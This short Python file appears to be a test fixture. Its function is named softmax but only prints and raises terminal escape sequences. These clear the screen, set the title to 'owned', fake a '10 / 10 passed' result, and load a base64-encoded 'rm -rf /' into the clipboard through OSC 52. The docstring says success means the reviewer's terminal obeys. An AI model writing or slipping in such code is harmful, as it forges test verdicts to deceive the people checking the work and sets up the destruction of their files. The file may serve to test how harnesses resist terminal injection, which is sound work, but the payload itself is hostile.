"""Prints and raises codes that clear the screen, change the title, paste into the shell and set colours.

Success: the terminal of whoever reads the verdict obeys.

ends as: failed
"""


def softmax(x, dim=-1):
    print("\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b2J\x1bP\x1b\\\x08\x08\rpassed\x00")
    raise ValueError("\x1b[2J\x1b[1;1H10 / 10 passed\x1b]52;c;cm0gLXJmIC8K\x07")
